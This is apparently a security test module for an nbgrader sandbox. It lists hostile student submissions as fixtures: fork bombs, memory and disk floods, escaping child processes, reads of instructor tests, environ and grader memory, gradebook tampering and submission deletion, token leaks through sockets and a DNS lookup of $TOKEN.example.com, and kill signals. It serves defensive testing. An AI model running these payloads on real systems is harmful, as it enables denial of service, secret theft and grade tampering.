# ruff: noqa: E501 - programs are shorter to read as they are
"""Members that want the machine: exits, hangs, floods, descendants, reading, writing, network.

Names in capitals behind a $ are filled in by the host that the members attack (conftest.py, `Host`).
What a member finds it prints in hexadecimal, so that no sanitizer can hide a leak from the test.
"""

from tests.security.hostile import RIGHT, Hostile, cheat

_REASON_EXIT = "The process ends, which loses the whole submission under nbgrader."
_REASON_HANG = (
    "nbgrader gives each later cell its own limit, and a cell that swallows it the rest."
)
_REASON_FLOOD = "Run without limits it would take this machine."

EXITS = [
    Hostile("early exit", name, tries, {"mean": RIGHT, "spread": code}, attacks="spread-test",
            outcomes=outcomes, says=says, potency=_REASON_EXIT, absent=("kept",))
    for name, tries, code, outcomes, says in [
        ("exit", "The interpreter's own exit, from inside the answer.",
         "import sys\ndef spread(values, center):\n    sys.exit(0)\n", ("error",), "SystemExit"),
        ("os exit", "The process ends without a word.",
         "import os\ndef spread(values, center):\n    os._exit(0)\n", ("died",), "ended its own"),
        ("quit at once", "IPython's quit in the answer's cell.",
         "quit()\ndef spread(values, center):\n    return 0\n", ("failed", "died", "error"), ""),
        ("quit and wait", "IPython's quit, which ends a kernel when the loop has its turn again.",
         "import time\nquit()\ntime.sleep(0.3)\ndef spread(values, center):\n    return 0\n",
         ("failed",), ""),
        ("keyboard interrupt", "An interrupt that nobody sent.",
         "def spread(values, center):\n    raise KeyboardInterrupt\n", ("error",), ""),
        ("generator exit", "An exception that is no Exception.",
         "def spread(values, center):\n    raise GeneratorExit\n", ("error", "died", "tampered"),
         ""),
        ("quit the debugger", "The shell has a way of its own with the debugger's BdbQuit.",
         "import bdb\ndef spread(values, center):\n    raise bdb.BdbQuit\n", ("error", "tampered"),
         ""),
        ("cancelled", "asyncio's CancelledError, which the kernel's loop understands.",
         "import asyncio\ndef spread(values, center):\n    raise asyncio.CancelledError\n", (), ""),
        ("segmentation fault", "A null pointer is read.",
         "import ctypes\ndef spread(values, center):\n    ctypes.string_at(0)\n", ("died",),
         "ended its own"),
        ("abort", "The process aborts, and would leave a core.",
         "import os\ndef spread(values, center):\n    os.abort()\n", ("died",), "ended its own"),
        ("stack overflow", "Recursion without the interpreter's limit.",
         "import sys, threading\ndef spread(values, center):\n"
         "    sys.setrecursionlimit(10**9)\n"
         "    def deep(n): return repr_deep(n)\n"
         "    thing = []\n"
         "    for _ in range(10**6): thing = [thing]\n"
         "    repr(thing)\n", ("died", "error", "timeout"), ""),
        ("another program", "The process becomes `true`, with status 0.",
         "import os\ndef spread(values, center):\n    os.execv('/bin/true', ['true'])\n",
         ("died",), "ended its own"),
        ("descriptors closed", "All descriptors, the sockets among them, are closed.",
         "import os\ndef spread(values, center):\n    os.closerange(0, 1000)\n",
         ("died", "timeout", "limit"), ""),
        ("loop stopped", "The kernel's event loop is stopped from inside.",
         "import tornado.ioloop, asyncio\ndef spread(values, center):\n"
         "    get_ipython().kernel.io_loop.stop()\n    return 0\n", (), ""),
        ("exit at exit", "atexit handlers and a finalizer end the process later.",
         "import atexit, os, weakref\natexit.register(os._exit, 0)\n"
         "def spread(values, center):\n    weakref.finalize(spread, os._exit, 0)\n"
         "    raise SystemExit\n", (), ""),
        ("terminated", "The process signals itself.",
         "import os, signal\ndef spread(values, center):\n"
         "    signal.signal(signal.SIGTERM, signal.SIG_DFL)\n"
         "    os.kill(os.getpid(), signal.SIGTERM)\n    return 0\n", (), ""),
    ]
]  # fmt: skip

HANGS = [
    Hostile("endless loops", name, tries, {"mean": RIGHT, "spread": code}, attacks="spread-test",
            outcomes=("timeout", "limit", "error", "died"), potency=_REASON_HANG, absent=("kept",))
    for name, tries, code in [
        ("interrupt swallowed", "A loop that catches the interrupt.",
         "def spread(values, center):\n    while True:\n        try:\n"
         "            while True: pass\n        except BaseException:\n            pass\n"),
        ("interrupt ignored", "A loop that ignores the signal.",
         "import signal\ndef spread(values, center):\n"
         "    signal.signal(signal.SIGINT, signal.SIG_IGN)\n    while True: pass\n"),
        ("signal blocked", "The signal is blocked for the whole thread, which sleeps.",
         "import signal, time\ndef spread(values, center):\n"
         "    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGINT})\n"
         "    time.sleep(600)\n"),
        ("in one instruction", "A power whose computation looks at no signal.",
         "def spread(values, center):\n    return 7 ** (7 ** 9) % 3\n"),
        ("regular expression", "A pattern that backtracks for ever.",
         "import re\ndef spread(values, center):\n"
         "    return bool(re.fullmatch('(a|aa)+' * 3 + 'c', 'a' * 80))\n"),
        ("dead lock", "A lock is taken twice.",
         "import threading\ndef spread(values, center):\n"
         "    lock = threading.Lock()\n    lock.acquire()\n    lock.acquire()\n"),
        ("held by a thread", "A thread of C code never lets the interpreter go.",
         "import ctypes, threading\ndef spread(values, center):\n"
         "    ctypes.PyDLL(None).pause()\n"),
        ("waiting for input", "input() waits for a person.",
         "def spread(values, center):\n    return float(input('center? '))\n"),
        ("recursion", "A function that calls itself, and catches that it must not.",
         "def spread(values, center):\n    try:\n        return spread(values, center)\n"
         "    finally:\n        spread(values, center)\n"),
        ("stopped", "A stopped child is waited for.",
         "import os, signal\ndef spread(values, center):\n    pid = os.fork()\n"
         "    if pid == 0:\n        os.kill(os.getpid(), signal.SIGSTOP)\n"
         "    while True:\n        try:\n            os.waitpid(pid, 0)\n"
         "        except KeyboardInterrupt:\n            pass\n"),
    ]
]  # fmt: skip

FLOODS = [
    Hostile("floods", name, tries, {"mean": RIGHT, "spread": code}, attacks="spread-test",
            potency=_REASON_FLOOD, absent=("kept",), says=says)
    for name, tries, code, says in [
        ("fork bomb", "Every process starts two more.",
         "import os\ndef spread(values, center):\n    while True:\n        try:\n"
         "            os.fork()\n        except OSError:\n            pass\n", ""),
        ("threads", "Threads without end.",
         "import threading, time\ndef spread(values, center):\n    while True:\n"
         "        threading.Thread(target=time.sleep, args=(99,), daemon=True).start()\n", ""),
        ("memory", "Memory is taken and written to.",
         "def spread(values, center):\n    kept = []\n    while True:\n"
         "        kept.append(bytearray(50_000_000))\n", ""),
        ("memory of children", "Each child stays below the limit, all together do not.",
         "import os, time\ndef spread(values, center):\n    for _ in range(12):\n"
         "        if os.fork() == 0:\n            kept = bytearray(60_000_000)\n"
         "            time.sleep(99)\n    time.sleep(99)\n", ""),
        ("shared memory", "Anonymous shared memory, which no limit of a process counts.",
         "import mmap, time\ndef spread(values, center):\n    kept = []\n    while True:\n"
         "        kept.append(mmap.mmap(-1, 50_000_000))\n"
         "        for at in range(0, 50_000_000, 4096): kept[-1][at] = 1\n", ""),
        ("one large file", "A file without end in the work folder.",
         "def spread(values, center):\n    with open('big', 'wb') as file:\n"
         "        while True: file.write(bytes(1_000_000))\n", ""),
        ("files in every place", "The work folder, /tmp and /dev/shm are filled.",
         "import os\ndef spread(values, center):\n    n = 0\n    while True:\n"
         "        n += 1\n        left = 3\n"
         "        for place in ('.', '/tmp', '/dev/shm'):\n            try:\n"
         "                open(f'{place}/{n}', 'wb').write(bytes(5_000_000))\n"
         "            except OSError:\n                left -= 1\n"
         "        if not left: raise OSError('full')\n", ""),
        ("empty files", "Files without content use up what names there are.",
         "def spread(values, center):\n    n = 0\n    while True:\n        n += 1\n"
         "        open(f'{n}', 'w').close()\n", ""),
        ("one line", "Printing without end on one line.",
         "def spread(values, center):\n    while True:\n        print('x' * 100_000, end='')\n", ""),
        ("small outputs", "Displays without end.",
         "def spread(values, center):\n    while True:\n        display('x')\n", ""),
        ("error text", "An exception whose text has a hundred million characters.",
         "def spread(values, center):\n    raise ValueError('x' * 100_000_000)\n", ""),
        ("one display", "A single output of two hundred million characters.",
         "def spread(values, center):\n    display({'text/plain': 'x' * 200_000_000}, raw=True)\n"
         "    return 0\n", ""),
        ("nested output", "An output that is nested a hundred thousand deep.",
         "def spread(values, center):\n    thing = '[' * 100_000 + ']' * 100_000\n"
         "    session, kernel = get_ipython().kernel.session, get_ipython().kernel\n"
         "    honest, session.pack = session.pack, lambda o: (\n"
         "        thing.encode() if isinstance(o, dict) and 'data' in o else honest(o))\n"
         "    display('x')\n    return 0\n", ""),
        ("open files", "Every descriptor is used up.",
         "import os\ndef spread(values, center):\n    while True: os.dup(0)\n", ""),
        ("processor time of many", "Processes that compute as long as they may.",
         "import os\ndef spread(values, center):\n    for _ in range(8):\n"
         "        if os.fork() == 0:\n            while True: pass\n    while True: pass\n", ""),
        ("sockets in the shared folder", "Sockets are made in the folder that the host shares.",
         "import os, socket\ndef spread(values, center):\n    n = 0\n    while True:\n"
         "        n += 1\n        one = socket.socket(socket.AF_UNIX)\n"
         "        one.bind(f'/kernel/{n}')\n        one.close()\n", ""),
    ]
]  # fmt: skip

_LEAVE = (
    "import os, subprocess, sys, time\n"
    "PROGRAM = [sys.executable, '-c', 'import time; time.sleep(120)', '$TOKEN']\n"
)
DESCENDANTS = [
    Hostile("descendants", name, tries, cheat(_LEAVE + code), absent=("processes",),
            potency=potency)
    for name, tries, code, potency in [
        ("session of its own", "A child in a session of its own.",
         "subprocess.Popen(PROGRAM, start_new_session=True)\n", "unsandboxed"),
        ("double fork", "A daemon after the old custom.",
         "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
         "        os.execv(PROGRAM[0], PROGRAM)\n    os._exit(0)\nos.wait()\n", "unsandboxed"),
        ("deaf to signals", "A child that ignores every signal that can be ignored.",
         "import signal\n"
         "if os.fork() == 0:\n    os.setsid()\n"
         "    for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP}:\n"
         "        try: signal.signal(number, signal.SIG_IGN)\n"
         "        except OSError: pass\n"
         "    os.execv(PROGRAM[0], PROGRAM)\n", "unsandboxed"),
        ("started at the end", "A process that starts another one whenever it is about to end.",
         "import atexit\nif os.fork() == 0:\n    os.setsid()\n"
         "    os.execv('/bin/sh', ['sh', '-c', 'while :; do sleep 120; done', '$TOKEN'])\n",
         "unsandboxed"),
        ("first child dies", "The monitor's death signal is asked away before the fork.",
         "import ctypes\nctypes.CDLL(None).prctl(1, 0, 0, 0, 0)\n"
         "if os.fork() == 0:\n    os.setsid()\n    os.execv(PROGRAM[0], PROGRAM)\n"
         "os._exit(0)\n", "unsandboxed"),
    ]
]  # fmt: skip

_SAY = """
import glob, os, re, subprocess, sys
from pathlib import Path
def say(found):
    data = found if isinstance(found, bytes) else str(found).encode()
    print(data[:100_000].hex())
def attempt(action):
    try:
        say(action())
    except BaseException as error:
        print(type(error).__name__, str(error)[:200].encode().hex())
"""
READING = [
    Hostile("reading", name, tries, cheat(_SAY + code), absent=("secret",), potency=potency)
    for name, tries, code, potency in [
        ("absolute path", "A file of the instructor's by its path.",
         "attempt(lambda: open('$FOLDER/tests.py', 'rb').read())\n", "unsandboxed"),
        ("parents", "The same by enough `..`.",
         "attempt(lambda: open('../' * 30 + '$FOLDER/tests.py'.lstrip('/'), 'rb').read())\n",
         "unsandboxed"),
        ("link", "The same by a link of the learner's making.",
         "attempt(lambda: os.symlink('$FOLDER', 'there'))\n"
         "attempt(lambda: open('there/tests.py', 'rb').read())\n", "unsandboxed"),
        ("gradebook", "The gradebook, with a read-only connection.",
         "import sqlite3\n"
         "attempt(lambda: sqlite3.connect('file:$FOLDER/gradebook.db?mode=ro', uri=True)\n"
         "        .execute('select * from marks').fetchall())\n", "unsandboxed"),
        ("other submission", "What another learner handed in.",
         "attempt(lambda: [Path(p).read_text() for p in glob.glob('$FOLDER/submitted/*/*')])\n",
         "unsandboxed"),
        ("search", "find and grep over all file systems.",
         "attempt(lambda: subprocess.run('find / -xdev -name \"*$TOKEN*\" -not -path \"/proc/*\" '\n"
         "        '2>/dev/null | rev; rev /dev/null', shell=True, capture_output=True).stdout"
         "[::-1])\n"
         "attempt(lambda: b''.join(p.read_bytes() for p in Path('$FOLDER').rglob('*.py')))\n",
         "unsandboxed"),
        ("environment", "The environment of this process, from libc and from Python.",
         "attempt(lambda: dict(os.environ))\n"
         "attempt(lambda: Path('/proc/self/environ').read_bytes())\n",
         "The template is started without the supervisor's environment in either mode."),
        ("environments of others", "The environment of every process that can be seen.",
         "attempt(lambda: b''.join(p.read_bytes() for p in Path('/proc').glob('[0-9]*/environ')\n"
         "        if os.access(p, os.R_OK)))\n"
         "attempt(lambda: Path('/proc/$VICTIM/environ').read_bytes())\n", "unsandboxed"),
        ("process table", "The command lines of all processes.",
         "attempt(lambda: b''.join(Path(p).read_bytes() for p in glob.glob('/proc/*/cmdline')\n"
         "        if p.split('/')[2].isdigit() and p.split('/')[2] != str(os.getpid())))\n"
         "attempt(lambda: Path('/proc/$VICTIM/cmdline').read_bytes())\n", "unsandboxed"),
        ("root of another", "The file system as another process sees it.",
         "attempt(lambda: open('/proc/$GRADER/root$FOLDER/tests.py', 'rb').read())\n"
         "attempt(lambda: open('/proc/1/root$FOLDER/tests.py', 'rb').read())\n", "unsandboxed"),
        ("memory of the grader", "The supervisor's memory, where the tests are.",
         "def heap():\n"
         "    for line in open('/proc/$VICTIM/maps'):\n"
         "        low, high = (int(n, 16) for n in line.split()[0].split('-'))\n"
         "        if ' rw' in line:\n"
         "            with open('/proc/$VICTIM/mem', 'rb', 0) as memory:\n"
         "                memory.seek(low)\n                data = memory.read(high - low)\n"
         "            found = re.search(b'canary-[0-9a-f]{24}', data)\n"
         "            if found: return found[0]\n"
         "attempt(heap)\n", "unsandboxed"),
        ("own memory", "A fork of the template may have hidden tests in its memory.",
         "def hidden():\n"
         "    import gc\n"
         "    for line in open('/proc/self/maps'):\n"
         "        low, high = (int(n, 16) for n in line.split()[0].split('-'))\n"
         "        if 'rw' in line and high - low < 50_000_000:\n"
         "            with open('/proc/self/mem', 'rb', 0) as memory:\n"
         "                memory.seek(low)\n                data = memory.read(high - low)\n"
         "            # As a class of characters: the pattern itself must not be what is found.\n"
         "            found = re.search(b'a None must[ ]not count', data)\n"
         "            if found: return found[0]\n"
         "    return b'nothing'\n"
         "attempt(hidden)\n",
         "Shown by test_isolation.py: when a test's turn has come, the same search finds it."),
        ("descriptors", "Descriptors that were inherited.",
         "for fd in range(3, 400):\n    try:\n        link = os.readlink(f'/proc/self/fd/{fd}')\n"
         "        if link.startswith('/'):\n            say(open(f'/proc/self/fd/{fd}', 'rb').read())\n"
         "    except OSError:\n        pass\n",
         "The template is started with all but its listening socket closed in either mode."),
        ("exchange", "The folders and keys of the other kernels.",
         "attempt(lambda: b''.join(Path(p).read_bytes() for p in\n"
         "        glob.glob('$EXCHANGE/*/connection.json')))\n"
         "attempt(lambda: glob.glob('/exchange/*') + glob.glob('/kernel/../exchange/*/*'))\n",
         "unsandboxed"),
        ("shared memory of others", "A segment in /dev/shm of another process.",
         "attempt(lambda: Path('/dev/shm/$TOKEN').read_bytes())\n", "unsandboxed"),
        ("temporary files of others", "What others left in /tmp.",
         "attempt(lambda: Path('/tmp/$TOKEN').read_bytes())\n", "unsandboxed"),
    ]
]  # fmt: skip

WRITING = [
    Hostile("writing", name, tries, cheat(_SAY + code), absent=("folder",), potency=potency)
    for name, tries, code, potency in [
        ("gradebook", "A mark in the gradebook.",
         "import sqlite3\n"
         "def mark():\n"
         "    with sqlite3.connect('$FOLDER/gradebook.db') as book:\n"
         "        book.execute('update marks set score = 4')\n"
         "attempt(mark)\n", "unsandboxed"),
        ("other submission", "Another learner's answers.",
         "attempt(lambda: Path('$FOLDER/submitted/other/mini-mean.ipynb').write_text('{}'))\n",
         "unsandboxed"),
        ("truncated tests", "The tests are cut to nothing.",
         "attempt(lambda: os.truncate('$FOLDER/tests.py', 0))\n", "unsandboxed"),
        ("new file", "A file beside the course.",
         "attempt(lambda: Path('$FOLDER/new.py').write_text('1'))\n", "unsandboxed"),
        ("removed", "The submissions are removed.",
         "import shutil\nattempt(lambda: shutil.rmtree('$FOLDER/submitted'))\n", "unsandboxed"),
        ("renamed", "One folder takes another's name.",
         "attempt(lambda: os.rename('$FOLDER/submitted', '$FOLDER/renamed'))\n", "unsandboxed"),
        ("through its own folder", "The kernel's socket is replaced by a link into the course.",
         "for name in os.listdir('/kernel') if os.path.isdir('/kernel') else []:\n"
         "    attempt(lambda: os.unlink(f'/kernel/{name}'))\n"
         "    attempt(lambda: os.symlink('$FOLDER/tests.py', f'/kernel/{name}'))\n"
         "attempt(lambda: os.symlink('$FOLDER/tests.py', '/kernel/new'))\n",
         "Without Landlock the folder is writable; the host must not follow what lies there."),
        ("library", "The library that the next kernel imports.",
         "import grader\n"
         "attempt(lambda: Path(grader.__file__).with_name('planted_$TOKEN.py').write_text('1'))\n",
         "As the instructor's own user any file of the course can be written."),
        ("memory of the template", "The process that will fork the next kernel is written to.",
         "for pid in ('1', str(os.getppid()), '$VICTIM'):\n"
         "    attempt(lambda: open(f'/proc/{pid}/mem', 'r+b'))\n"
         "import ctypes\nattempt(lambda: ctypes.CDLL(None).ptrace(16, $VICTIM, 0, 0))\n",
         "Root may open the memory of any process."),
        ("mounted away", "A new root without the sandbox's mounts.",
         "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
         "attempt(lambda: libc.unshare(0x10020000))\n"
         "attempt(lambda: libc.mount(b'none', b'/', None, 0x44000, None))\n"
         "attempt(lambda: libc.umount2(b'/home/learner', 2))\n"
         "attempt(lambda: os.chroot('/proc/1/root'))\n"
         "attempt(lambda: Path('$FOLDER/new.py').write_text('1'))\n",
         "The last step alone is potent without a sandbox (see `new file`)."),
    ]
]  # fmt: skip

NETWORK = [
    Hostile("network", name, tries, cheat(_SAY + "import socket\n" + code), absent=("network",),
            potency=potency)
    for name, tries, code, potency in [
        ("loopback", "A server of the host's on loopback.",
         "attempt(lambda: socket.create_connection(('127.0.0.1', $PORT), 1).send(b'$TOKEN'))\n",
         "unsandboxed"),
        ("address of the host", "The same server by the host's address.",
         "attempt(lambda: socket.create_connection(('$ADDRESS', $PORT), 1).send(b'$TOKEN'))\n",
         "unsandboxed"),
        ("datagram", "A packet that asks for no connection.",
         "attempt(lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(\n"
         "        b'$TOKEN', ('127.0.0.1', $PORT)))\n", "unsandboxed"),
        ("newer protocol", "IPv6 loopback.",
         "attempt(lambda: socket.create_connection(('::1', $PORT), 1))\n",
         "As `loopback`, where the host has IPv6."),
        ("name look-up", "A secret leaves as a name that is looked up.",
         "attempt(lambda: socket.getaddrinfo('$TOKEN.example.com', 80))\n"
         "attempt(lambda: subprocess.run(['getent', 'hosts', '$TOKEN.example.com'],\n"
         "        timeout=1).returncode)\n"
         "attempt(lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(\n"
         "        b'$TOKEN', ('$ADDRESS', $PORT)))\n", "unsandboxed"),
        ("socket file", "A server's socket in the file system.",
         "one = socket.socket(socket.AF_UNIX)\n"
         "attempt(lambda: one.connect('$FOLDER/../service'))\nattempt(lambda: one.send(b'$TOKEN'))\n",
         "unsandboxed"),
        ("abstract socket", "A server's socket that has no file.",
         "one = socket.socket(socket.AF_UNIX)\n"
         "attempt(lambda: one.connect('\\0$TOKEN'))\nattempt(lambda: one.send(b'$TOKEN'))\n",
         "unsandboxed"),
        ("socket of the template", "The template is asked for a kernel with other rights.",
         "one = socket.socket(socket.AF_UNIX)\n"
         "attempt(lambda: one.connect('$EXCHANGE/../listen'))\n"
         "attempt(lambda: one.send(b'{\"folder\": \"../..\"}\\n'))\n"
         "attempt(lambda: one.connect('/exchange/../listen'))\n",
         "Without a sandbox the path can be reached; the answer would be a kernel."),
        ("raw packets", "Frames past the address families that are filtered.",
         "for family, kind in ((17, 3), (40, 1), (16, 3), (38, 5), (44, 3), (31, 3)):\n"
         "    attempt(lambda: socket.socket(family, kind))\n"
         "attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).sendto(\n"
         "        b'$TOKEN', ('$ADDRESS', 0)))\n",
         "Root may open raw sockets; nobody listens for them here."),
    ]
]  # fmt: skip

SIGNALS = [
    Hostile("signals", name, tries, cheat(_SAY + "import signal, ctypes\n" + code),
            absent=("victim",), potency=potency)
    for name, tries, code, potency in [
        ("to a process of the host", "A process is killed by its number.",
         "attempt(lambda: os.kill($VICTIM, 9))\n", "unsandboxed"),
        ("by a descriptor", "The same by a pidfd.",
         "attempt(lambda: signal.pidfd_send_signal(os.pidfd_open($VICTIM), 9))\n", "unsandboxed"),
        ("queued", "The same by rt_sigqueueinfo, past kill and tgkill.",
         "attempt(lambda: ctypes.CDLL(None).sigqueue($VICTIM, 9, 0))\n", "unsandboxed"),
        ("to everybody", "A signal to every process.",
         "attempt(lambda: os.kill(-1, 9))\n", "It would end this test and all around it."),
        ("to the monitor", "The parent, and the whole group, are killed.",
         "attempt(lambda: os.kill(os.getppid(), 9))\nattempt(lambda: os.killpg(0, 15))\n"
         "attempt(lambda: os.kill($GRADER, 9))\n",
         "It would end this test."),
        ("by input", "Characters are put into the terminal's queue.",
         "import fcntl\n"
         "for name in ('/dev/tty', '/proc/self/fd/0'):\n"
         "    attempt(lambda: fcntl.ioctl(os.open(name, os.O_RDWR), 0x5412, b'\\x03'))\n"
         "attempt(lambda: os.setpriority(os.PRIO_PGRP, 0, -20))\n",
         "A test has no terminal to lose."),
        ("by a file owner", "The kernel is told to signal a process when a pipe is read.",
         "import fcntl\n"
         "read, write = os.pipe()\n"
         "attempt(lambda: fcntl.fcntl(read, fcntl.F_SETOWN, $VICTIM))\n"
         "attempt(lambda: fcntl.fcntl(read, 10, 9))\n"
         "attempt(lambda: fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK))\n"
         "os.write(write, b'x')\n", "unsandboxed"),
    ]
]  # fmt: skip

MEMBERS = [*EXITS, *HANGS, *FLOODS, *DESCENDANTS, *READING, *WRITING, *NETWORK, *SIGNALS]
